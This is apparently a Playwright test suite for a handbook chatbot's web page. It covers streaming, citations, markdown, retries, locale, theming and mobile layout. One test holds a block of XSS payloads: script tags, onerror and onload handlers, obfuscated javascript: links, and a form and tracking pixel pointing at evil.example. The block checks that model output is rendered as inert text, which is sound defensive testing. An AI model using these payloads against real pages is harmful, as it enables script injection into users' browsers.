"""The chat page in a real browser."""

from __future__ import annotations

import asyncio
import secrets
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, expect
from redis.asyncio import Redis

from channels.types import Action, Citation
from config.loader import Configuration
from tests.browser import ChatPage, another_tab, chat_page, needs_chromium, open_browser
from tests.unit.bot.web.conftest import Site, make_site
from tests.unit.bot.web.parrot import Lesson

pytestmark = [pytest.mark.asyncio(loop_scope="module"), *needs_chromium]

LEAVE = Citation(
    number=1,
    title="Annual leave",
    source="https://example.com/leave",
    position="Leave › Days",
    excerpt="You have **15 days**.",
)
TRAVEL = Citation(number=2, title="Travel", source="handbook/travel.md", excerpt="Go by train.")


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with open_browser() as browser:
        yield browser


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def site(
    valkey_url: str, tmp_path_factory: pytest.TempPathFactory, configuration: Configuration
) -> AsyncIterator[Site]:
    redis: Redis = Redis.from_url(valkey_url, decode_responses=True)
    await redis.flushall()
    async with make_site(redis, tmp_path_factory.mktemp("site"), configuration) as site:
        yield site
    await redis.aclose()


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def visitor_page(browser: Browser, site: Site) -> AsyncIterator[ChatPage]:
    async with chat_page(browser, site.url) as chat:
        yield chat


@pytest_asyncio.fixture(loop_scope="module")
async def chat(site: Site, visitor_page: ChatPage) -> AsyncIterator[ChatPage]:
    """The page with a new conversation and an empty list, of one visitor: a new browser window takes a second."""
    chat = visitor_page
    site.chat.lessons.clear()
    site.chat.received.clear()
    chat.complaints.clear()
    await chat.page.evaluate("localStorage.clear()")
    await chat.open(f"/?{secrets.token_hex(4)}")
    yield chat
    await chat.page.unroute_all()
    chat.check()


async def test_an_answer_is_seen_while_it_is_written(site: Site, chat: ChatPage) -> None:
    lesson = Lesson(pieces=["It ", "is ", "**fine**", " today."], step="Looking around", hold_after=0)
    site.chat.lessons["Hello"] = lesson
    await chat.write("Hello")
    await expect(chat.page.locator(".person")).to_contain_text("Hello")
    await expect(chat.page.locator(".live .status")).to_contain_text("Looking around")
    lesson.hold_after = 2
    lesson.go_on.set()
    lesson.go_on = asyncio.Event()
    await expect(chat.page.locator(".live .prose")).to_have_text("It is")
    lesson.go_on.set()
    await expect(chat.page.locator(".bot.answer .prose")).to_have_text("It is fine today.")
    await expect(chat.page.locator(".live")).to_have_count(0)
    await expect(chat.page.locator(".bot strong")).to_have_text("fine")
    await expect(chat.page.locator("#announcer")).to_have_text("It is fine today.")


HOSTILE = """<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">
[click](javascript:window.pwned=3) [data](data:text/html,<script>window.pwned=4</script>)
![pixel](https://evil.example/track?secret) [ok](https://example.com/?a="onmouseover="window.pwned=5)
<a href="javascript:window.pwned=6">x</a> <javascript:window.pwned=7> [x](JaVaScRiPt:window.pwned=8)
[x](java\tscript:window.pwned=9) [x](&#106;avascript:window.pwned=10) [![i](javascript:x)](javascript:window.pwned=11)

| <img src=x onerror=window.pwned=12> | b |
|---|---|
| <svg onload=window.pwned=13> | `</code><script>window.pwned=14</script>` |

```html"><script>window.pwned=15</script>
</code></pre><script>window.pwned=16</script>
```

# <iframe srcdoc="<script>parent.pwned=17</script>"></iframe>
- [ ] <style>*{display:none}</style>
> <form action=https://evil.example><input autofocus onfocus=window.pwned=18></form>
"""


async def test_whatever_a_model_writes_is_text(site: Site, chat: ChatPage) -> None:
    cited = Citation(number=1, title="<b>t</b>", source="javascript:window.pwned=20", position="<i>", excerpt=HOSTILE)
    site.chat.lessons["Attack"] = Lesson(
        pieces=[HOSTILE[at : at + 11] for at in range(0, len(HOSTILE), 11)],
        content=f"{HOSTILE}\nend [1]",
        citations=[cited],
        suggestions=["<img src=x onerror=window.pwned=19>"],
        actions=[Action(label="<script>window.pwned=21</script>", text="x")],
    )
    answer = await chat.ask("Attack")
    assert "<script>window.pwned = 1</script>" in answer
    await chat.page.click("button.cite")
    await expect(chat.page.locator("#sources")).to_be_visible()
    page = chat.page
    assert await page.evaluate("window.pwned") is None
    assert await page.locator("main script, main img[src='x'], main iframe, main svg[onload], main style").count() == 0
    assert await page.locator("dialog :is(script, img, iframe, style, form)").count() == 0
    attributes = "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name))"
    assert [name for name in await page.evaluate(attributes) if name.startswith("on")] == []
    links = await page.evaluate("[...document.querySelectorAll('main a[href], dialog a[href]')].map((a) => a.href)")
    assert links
    assert [link for link in links if not link.startswith(("https://", f"{site.url}/#"))] == []


async def test_markdown_becomes_what_it_means(site: Site, chat: ChatPage) -> None:
    text = """# Title
**粗体：**后面 *em* ~~gone~~ `co*de` ***both*** snake_case_name 2*3*4

1. one
   - inner
2. two

- [x] done
- [ ] open

| 工龄 | 天数 |
|:-----|-----:|
| 1 \\| 2 | 10 |

> quoted
```python
if a < b:
    print("*")
```
See <https://example.com/a_b> and https://example.com/x_(y). Line one
line two [docs](https://example.com "t")"""
    site.chat.lessons["Show"] = Lesson(pieces=[text])
    await chat.ask("Show")
    prose = chat.page.locator(".bot .prose").first
    await expect(prose.locator("h3")).to_have_text("Title")
    assert await prose.locator("p >> nth=0").evaluate("(p) => p.innerHTML") == (
        "<strong>粗体：</strong>后面 <em>em</em> <s>gone</s> <code>co*de</code> "
        "<strong><em>both</em></strong> snake_case_name 2<em>3</em>4"
    )
    await expect(prose.locator("ol > li")).to_have_count(2)
    await expect(prose.locator("ol > li > ul > li")).to_have_text("inner")
    await expect(prose.locator(".tick.ticked")).to_have_count(1)
    assert await prose.locator("td").all_inner_texts() == ["1 | 2", "10"]
    await expect(prose.locator("td").nth(1)).to_have_class("right")
    await expect(prose.locator("blockquote")).to_have_text("quoted")
    assert await prose.locator("pre").inner_text() == 'if a < b:\n    print("*")'
    links = await prose.locator("a").evaluate_all("(all) => all.map((a) => [a.textContent, a.href, a.rel])")
    rel = "noopener noreferrer nofollow"
    assert links == [
        ["https://example.com/a_b", "https://example.com/a_b", rel],
        ["https://example.com/x_(y)", "https://example.com/x_(y)", rel],
        ["docs", "https://example.com/", rel],
    ]
    await expect(prose.locator("p").last.locator("br")).to_have_count(1)


async def test_strange_markdown_is_shown_quickly_and_whole(site: Site, chat: ChatPage) -> None:
    strange = [
        "**a " * 5000,
        "[" * 20000,
        "`" * 3000 + "x",
        "> " * 300 + "deep",
        "  - x\n" * 500,
        "|" * 3000 + "\n" + "|-" * 3000 + "|\n" + "|x|\n" * 500,
        "*_" * 3000,
        "- " * 200 + "nested",
        "http://a" * 2000,
        "![" * 5000,
    ]
    for number, text in enumerate(strange):
        site.chat.lessons[f"Case {number}"] = Lesson(pieces=[text], content=f"{text}\n\nend")
        async with asyncio.timeout(6):
            answer = await chat.ask(f"Case {number}")
        assert answer.rstrip().endswith("end")


async def test_a_citation_opens_its_passage(site: Site, chat: ChatPage) -> None:
    site.chat.lessons["Leave?"] = Lesson(pieces=["15 days [1], by train [2] but not [3]."], citations=[LEAVE, TRAVEL])
    await chat.ask("Leave?")
    page = chat.page
    await expect(page.locator(".bot .prose button.cite")).to_have_count(2)
    await expect(page.locator(".bot .prose")).to_contain_text("not [3].")
    chip = page.locator(".bot .prose button.cite").first
    await chip.click()
    chosen = page.locator("#source-list > .chosen")
    await expect(chosen).to_contain_text("Annual leave")
    await expect(chosen).to_contain_text("Leave › Days")
    await expect(chosen.locator("strong")).to_have_text("15 days")
    await expect(chosen.locator("a")).to_have_attribute("href", "https://example.com/leave")
    await expect(page.locator("#source-list > li").nth(1)).to_contain_text("handbook/travel.md")
    await page.keyboard.press("Escape")
    await expect(page.locator("#sources")).to_be_hidden()
    await expect(chip).to_be_focused()


async def test_suggestions_and_buttons_are_sent_when_pressed(site: Site, chat: ChatPage) -> None:
    site.chat.lessons["Hello"] = Lesson(
        pieces=["Hi"], suggestions=["And then?"], actions=[Action(label="Translator", text="/use translator")]
    )
    await chat.ask("Hello")
    await chat.page.get_by_role("button", name="And then?").click()
    await expect(chat.page.locator(".bot .prose").nth(1)).to_have_text("You said: And then?")
    await expect(chat.page.get_by_role("button", name="And then?")).to_be_hidden()
    await chat.page.get_by_role("button", name="Translator").click()
    await expect(chat.page.locator(".bot .prose").nth(2)).to_have_text("You said: /use translator")
    await expect(chat.page.locator("#title")).to_have_text("translator")
    assert [message.kind for message in site.chat.received] == ["message", "button", "command"]


async def test_the_stop_button_ends_a_running_answer(site: Site, chat: ChatPage) -> None:
    site.chat.lessons["Go"] = Lesson(pieces=["word "], endless=True, pause_s=0.02)
    stop = chat.page.get_by_role("button", name="Stop answering")
    await expect(stop).to_be_hidden()
    await chat.write("Go")
    await expect(chat.page.locator(".live .prose")).to_contain_text("word word")
    await stop.click()
    await expect(chat.page.locator(".bot.notice")).to_contain_text("Stopped.")
    await expect(stop).to_be_hidden()
    await expect(chat.page.locator(".person")).to_have_count(1)


async def test_an_opinion_is_kept(site: Site, chat: ChatPage) -> None:
    await chat.ask("Hello")
    helpful = chat.page.get_by_role("button", name="Helpful", exact=True)
    await helpful.click()
    await expect(helpful).to_have_attribute("aria-pressed", "true")
    await chat.page.get_by_role("button", name="Not helpful").click()
    await expect(helpful).to_have_attribute("aria-pressed", "false")
    (opinion,) = await site.feedback.recent(limit=1)
    assert opinion.value == "down"
    await chat.page.reload()
    await expect(chat.page.get_by_role("button", name="Not helpful")).to_have_attribute("aria-pressed", "true")


async def test_a_question_is_answered_after_a_reload_in_its_middle(site: Site, chat: ChatPage) -> None:
    lesson = site.chat.lessons["Slow"] = Lesson(pieces=["one ", "two ", "three"], hold_after=2)
    await chat.write("Slow")
    await expect(chat.page.locator(".live .prose")).to_have_text("one two")
    await chat.page.reload()
    await expect(chat.page.locator(".live .prose")).to_have_text("one two")
    lesson.go_on.set()
    await expect(chat.page.locator(".bot.answer .prose")).to_have_text("one two three")
    assert len(site.chat.received) == 1


async def test_conversations_are_listed_and_kept_apart(chat: ChatPage) -> None:
    page = chat.page
    await chat.ask("First question")
    first = chat.conversation
    await page.get_by_role("button", name="New conversation").first.click()
    await expect(page.locator("#welcome")).to_be_visible()
    assert chat.conversation != first
    await chat.ask("Second question")
    assert await page.locator("#conversations a").all_inner_texts() == ["Second question", "First question"]
    await page.get_by_role("link", name="First question").click()
    await expect(page.locator(".person")).to_contain_text("First question")
    await expect(page.locator(".exchange")).to_have_count(1)
    await page.go_back()
    await expect(page.locator(".person")).to_contain_text("Second question")
    await page.get_by_role("button", name="Remove from the list: Second question").click()
    await expect(page.locator("#welcome")).to_be_visible()
    assert await page.locator("#conversations a").all_inner_texts() == ["First question"]


async def test_two_tabs_show_the_same_conversation(site: Site, chat: ChatPage) -> None:
    await chat.ask("From the first tab")
    other = await another_tab(chat.page.context, site.url, f"/#{chat.conversation}")
    await expect(other.page.locator(".bot .prose")).to_have_text("You said: From the first tab")
    await other.write("From the second tab")
    await expect(chat.page.locator(".bot .prose").nth(1)).to_have_text("You said: From the second tab")
    assert await chat.page.locator(".person p").all_inner_texts() == ["From the first tab", "From the second tab"]
    other.check()
    await other.page.close()


async def test_a_message_the_network_lost_is_sent_again_and_once(site: Site, chat: ChatPage) -> None:
    failures = 0

    async def lose(route: Any) -> None:
        nonlocal failures
        failures += 1
        if failures == 1:
            await route.abort()
        elif failures == 2:
            # The server has it, and the answer is lost on the way.
            await route.fetch()
            await route.abort()
        else:
            await route.continue_()

    await chat.page.route("**/messages", lose)
    await chat.write("Hello")
    await expect(chat.page.locator(".delivery.unsent")).to_contain_text("Waiting for a connection")
    await chat.page.get_by_role("button", name="Retry").click()
    await expect(chat.page.locator(".bot .prose")).to_have_text("You said: Hello")
    await expect(chat.page.locator(".delivery:not(:empty)")).to_have_count(0)
    assert [message.text for message in site.chat.received] == ["Hello"]
    await expect(chat.page.locator(".person")).to_have_count(1)
    chat.complaints.clear()


async def test_a_message_outlives_the_page_until_it_is_sent(site: Site, chat: ChatPage) -> None:
    await chat.page.route("**/messages", lambda route: route.abort())
    await chat.write("Keep me")
    await expect(chat.page.locator(".delivery.unsent")).to_be_visible()
    await chat.page.unroute_all()
    await chat.page.reload()
    await expect(chat.page.locator(".bot .prose")).to_have_text("You said: Keep me")
    assert len(site.chat.received) == 1
    chat.complaints.clear()


async def test_a_busy_bot_leaves_a_message_to_retry(site: Site, chat: ChatPage) -> None:
    site.chat.busy = 1
    await chat.write("Hello")
    await expect(chat.page.locator(".delivery.failed")).to_contain_text("Too many messages")
    await chat.page.get_by_role("button", name="Retry").click()
    await expect(chat.page.locator(".bot .prose")).to_have_text("You said: Hello")
    chat.check(expected="429")
    chat.complaints.clear()


async def test_a_failed_turn_says_so_and_can_be_asked_again(site: Site, chat: ChatPage) -> None:
    site.chat.lessons["Hello"] = Lesson(content="The model did not answer.", kind="failure", outcome="failed")
    await chat.write("Hello")
    await expect(chat.page.locator(".bot.failure")).to_contain_text("The model did not answer.")
    site.chat.lessons.clear()
    await chat.page.get_by_role("button", name="Retry").click()
    await expect(chat.page.locator(".bot.answer .prose")).to_have_text("You said: Hello")
    assert len({message.id for message in site.chat.received}) == 2


async def test_the_page_reconnects_when_the_server_is_back(site: Site, chat: ChatPage) -> None:
    await chat.ask("Before")
    await chat.page.context.set_offline(True)
    site.deps.close_streams()
    try:
        await expect(chat.page.locator("#connection")).to_be_visible()
        await chat.write("Meanwhile")
        await expect(chat.page.locator(".delivery.unsent")).to_be_visible()
    finally:
        site.reopen()
    await chat.page.context.set_offline(False)
    await expect(chat.page.locator("#connection")).to_be_hidden()
    await expect(chat.page.locator(".bot .prose").nth(1)).to_have_text("You said: Meanwhile")
    assert [message.text for message in site.chat.received] == ["Before", "Meanwhile"]
    chat.check(expected="ERR_INTERNET_DISCONNECTED|ERR_INCOMPLETE")
    chat.complaints.clear()


async def test_enter_sends_and_an_input_method_keeps_its_enter(site: Site, chat: ChatPage) -> None:
    page = chat.page
    box = page.get_by_label("Your message")
    await box.fill("line one")
    await box.press("Shift+Enter")
    await box.type("line two")
    composing = (
        "(box) => box.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', isComposing: true, bubbles: true}))"
    )
    await box.evaluate(composing)
    assert site.chat.received == []
    await box.press("Enter")
    await expect(page.locator(".person p")).to_have_text("line one\nline two", use_inner_text=True)
    await expect(box).to_have_value("")
    await expect(box).to_be_focused()
    await box.press("Enter")
    await expect(page.locator(".person")).to_have_count(1)


async def test_the_page_speaks_chinese_where_the_browser_does(browser: Browser, site: Site) -> None:
    site.chat.received.clear()
    async with chat_page(browser, site.url, locale="zh-CN") as chat:
        page = chat.page
        await expect(page.get_by_role("heading", name="有什么可以帮您？")).to_be_visible()
        assert await page.get_attribute("html", "lang") == "zh-CN"
        await chat.ask("你好")
        assert site.chat.received[0].sender.language == "zh"
        await page.get_by_role("button", name="切换到英文").click()
        await expect(page.get_by_placeholder("Ask a question…")).to_be_visible()
        await expect(page.get_by_role("button", name="Copy the answer")).to_be_visible()
        await page.reload()
        await expect(page.get_by_placeholder("Ask a question…")).to_be_visible()
        chat.check()


async def test_dark_mode_follows_the_system_until_it_is_chosen(browser: Browser, site: Site) -> None:
    async with chat_page(browser, site.url, color_scheme="dark") as chat:
        page = chat.page
        background = "getComputedStyle(document.body).backgroundColor"
        assert await page.get_attribute("html", "data-theme") == "dark"
        dark = await page.evaluate(background)
        await page.get_by_role("button", name="Switch between dark and light").click()
        assert await page.evaluate(background) != dark
        await page.reload()
        assert await page.get_attribute("html", "data-theme") == "light"
        chat.check()


@pytest.mark.parametrize("width", [320, 768])
async def test_a_phone_shows_everything_within_its_width(browser: Browser, site: Site, width: int) -> None:
    wide = "| " + " | ".join(["a long column name"] * 8) + " |\n" + "|---" * 8 + "|\n" + "| cell " * 8 + "|"
    site.chat.lessons["Wide"] = Lesson(pieces=[f"{wide}\n\n```\n{'x' * 300}\n```\n\n{'y' * 300}"], citations=[LEAVE])
    options = {"viewport": {"width": width, "height": 700}, "has_touch": True, "is_mobile": True}
    async with chat_page(browser, site.url, **options) as chat:
        page = chat.page
        await chat.ask("Wide")
        assert await page.evaluate("document.documentElement.scrollWidth") <= width
        assert await page.evaluate("document.getElementById('scroller').scrollWidth") <= width
        box = await page.locator("#composer").bounding_box()
        assert box
        assert box["y"] + box["height"] < 700
        await expect(page.locator("#sidebar")).to_have_attribute("inert", "")
        await page.get_by_role("button", name="Open the menu").click()
        await expect(page.get_by_role("link", name="Wide")).to_be_in_viewport()
        await expect(page.locator("#sidebar")).not_to_have_attribute("inert", "")
        await page.keyboard.press("Escape")
        await expect(page.get_by_role("link", name="Wide")).not_to_be_in_viewport()
        chat.check()


async def test_everything_that_can_be_pressed_has_a_name(site: Site, chat: ChatPage) -> None:
    site.chat.lessons["Hello"] = Lesson(pieces=["Hi [1]\n```\ncode\n```"], citations=[LEAVE], suggestions=["More?"])
    await chat.ask("Hello")
    unnamed = """[...document.querySelectorAll('button, a, textarea')].filter((e) =>
        !(e.getAttribute('aria-label') || e.textContent.trim() || e.labels?.length)).map((e) => e.outerHTML)"""
    assert await chat.page.evaluate(unnamed) == []


async def test_code_is_copied_as_it_is(site: Site, chat: ChatPage) -> None:
    await chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    site.chat.lessons["Code"] = Lesson(pieces=["```\n  a < b && c\n```"])
    await chat.ask("Code")
    await chat.page.locator(".copy-code").click()
    await expect(chat.page.locator(".copy-code")).to_have_text("Copied")
    assert await chat.page.evaluate("navigator.clipboard.readText()") == "  a < b && c"


async def test_the_first_question_and_the_assistant_are_a_click_away(site: Site, chat: ChatPage) -> None:
    page = chat.page
    await expect(page.locator("#welcome")).to_contain_text("Ask me about the handbook.")
    await page.get_by_role("button", name="How many days of leave do I have?").click()
    await expect(page.locator(".bot .prose")).to_contain_text("You said: How many days of leave")
    await page.get_by_role("button", name="New conversation").first.click()
    await page.get_by_role("button", name="translator").click()
    await expect(page.locator("#title")).to_have_text("translator")
    await expect(page.locator(".bot .prose")).to_have_text("You said: /use translator")
    await expect(page.locator(".person")).to_have_count(0)
    assert [message.text for message in site.chat.received][-1] == "/use translator"


async def until_at_the_end(page: Page) -> None:
    below = "((s) => s.scrollHeight - s.scrollTop - s.clientHeight)(document.getElementById('scroller'))"
    async with asyncio.timeout(10):
        while await page.evaluate(below) >= 5:
            await asyncio.sleep(0.05)


async def test_a_reader_who_scrolled_up_is_left_alone(site: Site, chat: ChatPage) -> None:
    site.chat.lessons["Long"] = Lesson(pieces=[f"Line {number}\n\n" for number in range(80)])
    await chat.ask("Long")
    page = chat.page
    await until_at_the_end(page)
    await page.evaluate("document.getElementById('scroller').scrollTop = 100")
    jump = page.get_by_role("button", name="Jump to the latest message")
    await expect(jump).to_be_visible()
    site.chat.lessons["More"] = Lesson(pieces=["More\n\n"] * 10)
    other = await another_tab(page.context, site.url, f"/#{chat.conversation}")
    await other.ask("More")
    await expect(page.locator(".exchange")).to_have_count(2)
    assert await page.evaluate("document.getElementById('scroller').scrollTop") == 100
    await jump.click()
    await until_at_the_end(page)
    await other.page.close()
